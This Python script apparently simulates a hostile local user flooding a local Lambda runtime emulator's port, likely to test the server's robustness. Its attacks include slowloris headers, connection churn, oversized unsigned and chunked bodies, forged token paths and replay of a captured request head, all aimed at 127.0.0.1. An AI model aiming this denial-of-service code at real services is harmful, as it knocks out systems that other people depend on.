"""Another user of the machine, who has found a local Lambda's port but not its key pair.

``python strangers.py PORT KIND [HEAD]`` attacks until its stdin ends; it prints "attacking" once
the first connections are open. HEAD: the head of a request that the stranger has obtained.
"""

from __future__ import annotations

import contextlib
import select
import socket
import sys
import threading

_AT_ONCE = 300  # connections that it keeps open
_BODY = bytes(6_000_000)
_LINE = b"POST /2015-03-31/functions/f/invocations HTTP/1.1\r\nHost: x\r\n"


def _first_bytes(kind: str, head: bytes) -> bytes:
    """Return what it sends on each connection."""
    length = b"Content-Length: %d\r\n\r\n" % (len(_BODY) + 1)
    return {
        "idle": b"",
        "loris": _LINE + b"X-Slow: ",
        "unsigned": _LINE + length + _BODY,
        "chunked": _LINE + b"Transfer-Encoding: chunked\r\n\r\n" + b"5b8d80\r\n" + _BODY,
        "token": b"POST /" + b"A" * 24 + b"/2018-06-01/runtime/init/error HTTP/1.1\r\nHost: x\r\n"
        + length + _BODY,
        "head": head + _BODY,
    }[kind]  # fmt: skip


def _churn(port: int, over: threading.Event) -> None:
    """Open and close connections as fast as possible."""
    held: list[socket.socket] = []
    while not over.is_set():
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex(("127.0.0.1", port))
        held.append(sock)
        if len(held) > _AT_ONCE:
            held.pop(0).close()


def _attack(port: int, first: bytes, over: threading.Event) -> None:
    held: list[tuple[socket.socket, memoryview]] = []
    while not over.is_set():
        while len(held) < _AT_ONCE:
            sock = socket.socket()
            sock.setblocking(False)
            sock.connect_ex(("127.0.0.1", port))
            held.append((sock, memoryview(first)))
        over.wait(0.01)
        left = []
        for sock, unsent in held:
            try:
                if not unsent and select.select([sock], [], [], 0)[0] and not sock.recv(65536):
                    raise ConnectionResetError
                sent = sock.send(unsent[:1_000_000]) if unsent else 0
                left.append((sock, unsent[sent:]))
            except BlockingIOError:
                left.append((sock, unsent))
            except OSError:
                sock.close()
        held = left
    for sock, _ in held:
        sock.close()


def main() -> None:
    port, kind, *rest = sys.argv[1:]
    over = threading.Event()
    if kind == "churn":
        attack = threading.Thread(target=_churn, args=(int(port), over))
    else:
        first = _first_bytes(kind, rest[0].encode("latin-1") if rest else b"")
        attack = threading.Thread(target=_attack, args=(int(port), first, over))
    attack.start()
    with contextlib.suppress(KeyboardInterrupt):
        print("attacking", flush=True)
        sys.stdin.read()
    over.set()
    attack.join()


if __name__ == "__main__":
    main()
